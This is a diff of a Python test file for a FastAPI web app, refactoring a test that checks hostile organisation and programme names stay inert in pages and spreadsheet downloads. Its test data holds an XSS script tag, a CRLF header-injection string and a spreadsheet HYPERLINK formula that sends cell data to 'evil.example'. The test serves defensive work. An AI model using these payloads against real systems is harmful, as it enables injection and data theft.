@@ -12,7 +12,7 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
-from gachi.db.models import DataPoint, Organisation, Programme
+from gachi.db.models import DataPoint, Programme
 from gachi.db.tenancy import TenantRepository
 from web.data_helpers import korean
 from web.helpers import post
@@ -21,6 +21,7 @@ from web.publishing_helpers import (
     mentoring,
     mentoring_org,
     publish,
+    rename_org,
     set_definition,
 )
 from web.runs_helpers import add_programme, run_to_end, set_point
@@ -254,11 +255,7 @@ def test_hostile_names_stay_text_on_public_pages_and_in_reports(client, engine, 
     org = found.org
     # Line breaks are refused in names now; a name stored before that must still not break
     # the download's headers.
-    with Session(engine) as db:
-        organisation = db.get(Organisation, org)
-        assert organisation is not None
-        organisation.name = '<script>alert("org")</script>/..\r\nX: 1'
-        db.commit()
+    rename_org(engine, org, '<script>alert("org")</script>/..\r\nX: 1')
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     add_programme(engine, org, formula, ["my_mentoring"], {(2024, "hours"): 3})
     add_programme(
